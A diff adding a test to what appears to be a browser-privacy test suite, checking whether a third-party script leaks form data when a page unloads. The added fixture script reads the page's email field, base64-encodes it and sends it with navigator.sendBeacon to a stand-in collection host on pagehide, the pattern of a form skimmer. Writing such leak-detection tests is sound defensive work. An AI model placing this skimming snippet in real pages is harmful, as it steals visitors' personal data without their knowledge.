@@ -55,6 +55,18 @@ describe.each(browsers)("a form that is sent, in %s", (browser) => {
     );
   });
 
+  test("to the page's own site, while a script of another company tells on as the page goes", async () => {
+    stage.sites.put("cdn.late.test/l.js", {
+      body: `addEventListener("pagehide", () => navigator.sendBeacon("http://in.late.test/b", btoa(document.querySelector("[type=email]").value)))`,
+      type: "text/javascript",
+    });
+    const late = await sentFrom(
+      "late.example",
+      `<form action="/thanks" method="post">${email}</form><script src="http://cdn.late.test/l.js"></script>`,
+    );
+    expect(late).toEqual(["in.late.test body base64 after-submit saw"]);
+  });
+
   test("to the page's own site alone: nobody else got anything", async () => {
     const own = await sentFrom(
       "calm.example",
